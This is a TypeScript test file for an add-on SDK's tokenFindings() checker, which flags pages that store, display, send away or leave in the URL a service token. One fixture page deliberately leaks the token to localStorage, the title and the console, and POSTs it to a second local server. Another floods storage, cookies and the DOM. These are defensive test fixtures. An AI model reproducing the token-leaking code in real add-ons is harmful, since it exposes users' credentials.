// openHostPage()'s tokenFindings(): spec 5.1 ("tokens are not to be shown to end users or stored")
// judged for an add-on's own tests, as addon check's page.token-* checks judge it. A page that keeps
// the token in memory has no finding; a careless one has one of each kind, said without the token;
// a hostile one (megabytes of storage, thousands of cookies and elements) is read within its bounds.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, describe, expect, it } from 'vitest';
import { openHostPage, startEmulator } from '../../src/testing/index.js';
import { useBrowser } from './browser.js';
import { serveFixture } from './fixture-addon.js';

const { browser, keep } = useBrowser();

const servers: Server[] = [];
afterAll(() => Promise.all(servers.map((server) => new Promise((done) => server.close(done)))));

/** A server of `pages` by path, each with its headers, on 127.0.0.1: what is not there answers 204. */
async function site(pages: Record<string, { body: string; headers?: Record<string, string> }> = {}): Promise<string> {
  const server = createServer((request, response) => {
    const page = pages[new URL(request.url ?? '/', 'http://x').pathname];
    request.resume();
    if (!page) return response.writeHead(204).end();
    response.writeHead(200, { 'content-type': 'text/html', ...page.headers }).end(page.body);
  });
  servers.push(server);
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

/** A page that says ready to the host, after `script` has run with `token` in scope. */
const addonPage = (script: string, head = '') => `<!doctype html><html><head>${head}<title>add-on</title></head><body>
<main><p>An add-on</p></main>
<script>
  const token = new URLSearchParams(location.search).get('service_token');
  ${script}
  parent.postMessage({ type: 'service:ready' }, new URL(document.referrer).origin);
</script></body></html>`;

async function findingsOf(addonUrl: string) {
  const emulator = keep(await startEmulator({ addonUrl }));
  const host = keep(await openHostPage(emulator, { browser: browser() }));
  const findings = await host.tokenFindings();
  const { token } = await host.session();
  return { findings, token, host };
}

describe('tokenFindings()', () => {
  it('finds nothing on a page that keeps the token in memory: the SDK fixture, after loading and after a reopening', async () => {
    const fixture = await serveFixture();
    try {
      const { findings, host } = await findingsOf(fixture.url);
      expect(findings).toEqual([]);
      await host.reopen();
      expect(await host.tokenFindings()).toEqual([]);
    } finally {
      await fixture.close();
    }
  });

  it('finds the token stored, shown, sent elsewhere and left in the address, and never says it', async () => {
    const elsewhere = await site();
    const url = await site({
      '/': {
        body: addonPage(
          `localStorage.setItem('auth', JSON.stringify({ token }));
           document.title = 'Session ' + token.slice(40);
           console.info('token:', btoa(token));
           fetch('${elsewhere}/track', { method: 'POST', body: token, mode: 'no-cors' });`,
          '<meta name="referrer" content="unsafe-url">',
        ),
      },
    });
    const { findings, token } = await findingsOf(`${url}/`);
    const origin = url;
    expect(findings).toEqual(
      expect.arrayContaining([
        { rule: 'stored', where: `localStorage, key "auth" of ${origin}` },
        { rule: 'shown', where: `the title of ${origin}` },
        { rule: 'shown', where: `a console message of ${origin}` },
        { rule: 'sent', where: `the body of a POST to ${elsewhere}` },
        { rule: 'sent', where: `the Referer of a POST to ${elsewhere}` },
        { rule: 'in-url', where: `the address of the frame at ${origin}` },
      ]),
    );
    for (const { where } of findings) expect(where).not.toContain(token.split('.')[2]!.slice(0, 20));
  });

  it('reads a hostile page within its bounds: megabytes of storage, thousands of cookies and elements', async () => {
    const url = await site({
      '/': {
        body: addonPage(`
          history.replaceState(null, '', location.pathname);
          const junk = 'x'.repeat(1024 * 1024);
          for (let i = 0; i < 4; i++) localStorage.setItem('junk' + i, junk);
          localStorage.setItem('zz', token);
          for (let i = 0; i < 3000; i++) document.cookie = 'c' + i + '=' + i + '; SameSite=None; Secure; Partitioned';
          const main = document.querySelector('main');
          for (let i = 0; i < 20000; i++) main.append(Object.assign(document.createElement('span'), { title: 'x' + i }));`),
      },
    });
    const { findings } = await findingsOf(`${url}/`);
    expect(findings).toContainEqual({ rule: 'stored', where: `localStorage, key "zz" of ${url}` });
  });
});
